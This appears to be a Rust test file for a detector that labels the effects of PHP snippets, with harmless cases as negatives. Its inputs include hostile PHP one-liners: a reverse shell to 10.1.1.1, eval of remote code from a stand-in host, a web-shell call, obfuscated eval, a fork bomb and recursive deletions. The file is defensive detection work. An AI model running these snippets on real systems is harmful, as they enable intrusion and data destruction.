//! PHP.

use super::{Language::Php, check};

#[test]
fn acts_of_php() {
    check(
        Php,
        &[
            ("system('rm -rf out');", &["shell rm -rf out"]),
            ("echo shell_exec(\"rm -rf $d\");", &["shell rm -rf $unknown"]),
            ("$d = 'out'; exec('rm -rf ' . $d);", &["shell rm -rf out"]),
            ("echo `halt`;", &["shell halt"]),
            ("<?php passthru('halt'); ?>", &["shell halt"]),
            ("\\system('halt');", &["shell halt"]),
            ("SYSTEM('halt');", &["shell halt"]),
            ("$f = 'sys' . 'tem'; $f('halt');", &["shell halt"]),
            ("call_user_func('system', 'halt');", &["shell halt"]),
            ("array_map('unlink', glob('*.o'));", &["same rm *.o"]),
            ("foreach (glob('*.o') as $f) { unlink($f); }", &["same rm *.o"]),
            ("unlink('/etc/passwd');", &["same rm /etc/passwd"]),
            ("file_put_contents('/etc/motd', 'x');", &["write /etc/motd"]),
            ("file_put_contents('a.log', 'x', FILE_APPEND);", &["append a.log"]),
            ("fwrite(fopen('/etc/motd', 'w'), 'x');", &["write /etc/motd"]),
            ("eval('system(\"halt\");');", &["shell halt"]),
            ("eval(base64_decode('c3lzdGVtKCdoYWx0Jyk7'));", &["shell halt"]),
            ("eval(gzinflate(base64_decode('c3lz')));", &["unknown"]),
            ("system($_GET['c']);", &["unknown"]),
            ("while (1) { pcntl_fork(); }", &["bomb"]),
            ("posix_kill(-1, 9);", &["same kill -9 -1"]),
            (
                "eval(file_get_contents('https://x.example/a'));",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | php", "unknown"],
            ),
            (
                "$s=fsockopen('10.1.1.1',9001);exec('/bin/sh -i <&3 >&3 2>&3');",
                &["shell /bin/sh -i <&3 >&3 2>&3", "reverse"],
            ),
            ("$db->query('DROP TABLE users');", &["same psql -c DROP TABLE users"]),
            ("require 'lib.php';", &["same php lib.php"]),
            ("include 'http://x.example/a';", &["shell curl 'http://x.example/a' | php", "unknown"]),
            ("proc_open(['rm', '-rf', 'out'], [], $p);", &["run rm -rf out"]),
        ],
    );
}

#[test]
fn harmless() {
    check(
        Php,
        &[
            ("echo 'rm -rf /';", &[]),
            ("// system('halt');\necho 1;", &[]),
            ("echo \"system('halt') {$x}\";", &[]),
            ("echo json_encode(['a' => 1, 'system' => 'halt']);", &[]),
            ("echo json_decode(file_get_contents('composer.json'))->name;", &["read composer.json"]),
            ("phpinfo();", &[]),
            ("echo PHP_VERSION, PHP_EOL;", &[]),
            ("echo str_replace('rm -rf', 'trash', 'x');", &[]),
            ("$t = <<<EOT\nsystem('halt');\nEOT;\necho $t;", &[]),
            ("foreach ([1, 2] as $k => $v) { echo $k . $v; }", &[]),
            ("text about system('halt') <?= 1 + 1 ?> and unlink('x')", &[]),
        ],
    );
}
